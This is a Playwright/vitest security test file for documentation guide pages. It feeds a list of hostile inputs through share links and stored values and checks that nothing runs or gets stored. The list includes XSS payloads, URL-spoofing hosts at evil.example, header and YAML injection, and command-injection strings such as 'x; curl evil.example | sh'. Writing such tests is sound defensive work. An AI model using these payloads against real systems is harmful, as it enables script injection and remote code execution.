import type { Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import { kindOf } from "../../generator/values/kinds.ts";
import { isSecret } from "../../generator/values/secret.ts";
import { alive, keptStorage, keptValues, openBench } from "./bench.ts";
import { readStorage } from "./form.ts";
import { guideOf, loadGuides } from "./guides.ts";

const bench = openBench();
const guides = await loadGuides();

/** A guide with a text, a secret and a distinguished name among its values, and with code. */
const pages = [guideOf(guides, "nextcloud"), guideOf(guides, "grafana")];

/** What somebody may put into a link or into storage to make a page do something. */
const attacks = [
  "<img src=x onerror=alert(1)>",
  "https://crm.b.example/<script>alert(1)</script>",
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  "{{constructor}}{alert(1)}$\u007Balert(1)}",
  "javascript:alert(1)",
  "java\nscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "https://authentik.company@evil.example",
  "https://evil.example\\@authentik.company",
  "https://evil.example%2f@authentik.company",
  "https://evil.example%00.authentik.company",
  "https://%65vil.example",
  "evil.example\r\nX-Header: 1",
  "evil.example\nkey: value",
  'x"\n  - command: [sh, -c, id]',
  "x; curl evil.example | sh",
  "$(curl evil.example)`id`",
  "x' || id || '",
  "&lt;b&gt;&#60;b&#62;",
  "\u202Egnp.exe",
  "a\u200Bb.example",
  "a".repeat(100_000),
] as const;

/** What must not differ between a hostile visit and a plain one. */
interface Frame {
  /** Every element with the names of its attributes, and those values that lead somewhere. */
  elements: string[];
  /** The kinds of elements that a highlighter makes of code, which change with the code. */
  inCode: string[];
  scripts: number;
}

async function readFrame(page: Page): Promise<Frame> {
  // As one text: the protocol takes its time with thousands of small ones.
  const text = await page.evaluate(() => {
    const leading = /^(src|srcset|href|action|formaction|data|style|xlink:href|on.*)$/;
    // What the page says about the link itself, and where long addresses may break.
    const own = "[role=alert], [role=alert] *, [role=status] *, wbr";
    const describe = (element: Element) => {
      const attributes = [...element.attributes]
        .filter(({ name }) => !/^(value|title|aria-.*|class|data-.*|open)$/.test(name))
        .map(({ name, value }) => (leading.test(name) ? `${name}=${value}` : name));
      // An empty field shows an example; one that a visit has filled has left it out.
      const isFilled = element instanceof HTMLInputElement && element.value !== "";
      if (isFilled) attributes.push("placeholder");
      return `${element.localName} ${attributes.sort().join(" ")}`;
    };
    const all = [...document.querySelectorAll("body *")].filter((element) => !element.matches(own));
    const elements = all.filter((element) => !element.matches(".token-line *")).map(describe);
    const inCode = [
      ...new Set(
        all
          .filter((element) => element.matches(".token-line *"))
          .map((element) => describe(element).replace(/style=(color: var\(--[\w-]+\);)?$/, "")),
      ),
    ].sort();
    return JSON.stringify({ elements, inCode, scripts: document.scripts.length });
  });
  return JSON.parse(text);
}

/** What stands in the form's fields, by placeholder. */
function readEntries(page: Page): Promise<Record<string, string>> {
  return page
    .locator("[data-field]")
    .evaluateAll((fields) =>
      Object.fromEntries(
        fields.map((field) => [
          field.getAttribute("data-field"),
          field.querySelector("input")?.value ?? "",
        ]),
      ),
    );
}

async function countRuns(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const noted: string[] = [];
    Object.assign(window, { alert: () => noted.push("alert"), noted_: noted });
  });
}

function readRuns(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as { noted_: string[] }).noted_);
}

describe.each(pages)("$guide.slug", (entry) => {
  const { guide, path } = entry;
  const names = Object.keys(guide.values.placeholders);

  /** Whether the kind of that placeholder takes the entry, as plain text for example. */
  const takes = (name: string, attack: string) => {
    const kind = guide.values.placeholders[name]?.kind ?? "text";
    return !isSecret(kind) && "value" in kindOf(kind).normalise(attack);
  };

  it("stays as it was under hostile links, and names what it refuses", async () => {
    const page = await (await bench.reader()).newPage();
    await countRuns(page);
    await page.goto(path);
    await alive(page);
    // The code of the offer is fetched for the first link, whatever that holds.
    await page.evaluate(() => {
      location.hash = "hostwise=1&nothing=of-this-guide";
    });
    await page.getByRole("button", { name: "Dismiss", exact: true }).click();
    await page.getByRole("alert").waitFor({ state: "detached" });
    const before = await readFrame(page);
    const asked = new Set(bench.server.requests.map(({ url }) => url));
    // What no text takes either is refused in the same way everywhere: one guide proves it.
    const tried = attacks.filter(
      (attack) => entry === pages[0] || "value" in kindOf("text").normalise(attack),
    );
    for (const attack of tried) {
      const query = new URLSearchParams(names.map((name) => [name, attack]));
      for (const name of ["__proto__", "constructor", "toString", "<b>bold</b>"]) {
        query.append(name, attack);
      }
      query.append("authentik-version", attack);
      await page.evaluate((hash) => {
        location.hash = hash;
      }, `hostwise=1&${query}`);
      const offer = page.getByRole("alert");
      await offer.waitFor();
      const said = await offer.textContent();
      for (const name of names) {
        const label = guide.values.placeholders[name]?.label ?? name;
        if (!takes(name, attack)) expect(said).toContain(`Refused “${label}”`);
      }
      for (const name of ["__proto__", "constructor", "toString", "<b>bold</b>"]) {
        expect(said).toContain(`Refused “${name}”: This guide has no such value.`);
      }
      expect(said).toContain("Refused “authentik-version”");
      expect(await offer.locator("img, svg, script, b, a").count()).toBe(0);
      expect(await readFrame(page)).toEqual(before);
      const apply = page.getByRole("button", { name: "Apply", exact: true });
      if ((await apply.count()) > 0) await apply.click();
      else await page.getByRole("button", { name: "Dismiss", exact: true }).click();
      await offer.waitFor({ state: "detached" });
      expect(await readFrame(page)).toEqual(before);
      expect(await readRuns(page)).toEqual([]);
      // Only what is text anywhere was taken: no host, no slug, no secret.
      const kept = (await readStorage(page)) ?? "";
      for (const name of names.filter((candidate) => !takes(candidate, attack))) {
        expect(kept).not.toContain(`${JSON.stringify(name)}:${JSON.stringify(attack)}`);
      }
    }
    expect(await page.evaluate(() => Object.keys(Object.prototype))).toEqual([]);
    const later = bench.server.requests.map(({ url }) => url).filter((url) => !asked.has(url));
    expect(later).toEqual([]);
  });

  it("stays as it was under hostile stored values", async () => {
    const plain = await bench.open(await bench.reader(), path);
    const before = await readFrame(plain);
    // The code that judges what is kept is fetched for the first of it, whatever that holds.
    const kept = keptValues(entry, Object.fromEntries(names.map((name) => [name, ""])));
    const first = await bench.reader({ storageState: keptStorage(bench, kept) });
    await (await bench.open(first, path)).waitForLoadState("networkidle");
    const asked = new Set(bench.server.requests.map(({ url }) => url));
    // Each visit gives each value another attack.
    for (let visit = 0; visit < attacks.length; visit += 4) {
      const attackOn = (index: number) => attacks[(visit + index) % attacks.length] ?? "";
      const all = Object.fromEntries(names.map((name, index) => [name, attackOn(index)]));
      const stored = JSON.stringify({
        shared: all,
        pages: { [guide.slug]: all },
        version: attackOn(0),
      }).replace('"shared":{', '"__proto__":{"polluted":"yes"},"shared":{"__proto__":"x",');
      const context = await bench.reader({ storageState: keptStorage(bench, stored) });
      const page = await context.newPage();
      await countRuns(page);
      await page.goto(path);
      await alive(page);
      const refused = names.filter((name, index) => !takes(name, attackOn(index)));
      await expect
        .poll(async () => {
          const entries = await readEntries(page);
          return refused.filter((name) => entries[name] !== "");
        })
        .toEqual([]);
      expect(await readFrame(page)).toEqual(before);
      expect(await readRuns(page)).toEqual([]);
      expect(await page.evaluate(() => "polluted" in Object.prototype || "polluted" in {})).toBe(
        false,
      );
      await context.close();
    }
    const later = bench.server.requests.map(({ url }) => url).filter((url) => !asked.has(url));
    expect(later).toEqual([]);
  });
});

it("loads with a fragment that is no share link, whatever it is", async () => {
  const [{ path } = { path: "/" }] = pages;
  const context = await bench.reader();
  for (const fragment of [
    "#hostwise=2&authentik=https://evil.example",
    "#hostwise",
    "#100%",
    "#%E0%A4%A",
    "#<img src=x onerror=alert(1)>",
    "#__proto__",
    `#${"&a=b".repeat(20_000)}`,
  ]) {
    const page = await bench.open(context, path + fragment);
    expect(await page.getByRole("alert").filter({ hasText: "link" }).count()).toBe(0);
    expect(await page.locator(".hw-mark--own").count()).toBe(0);
    await page.close();
  }
});
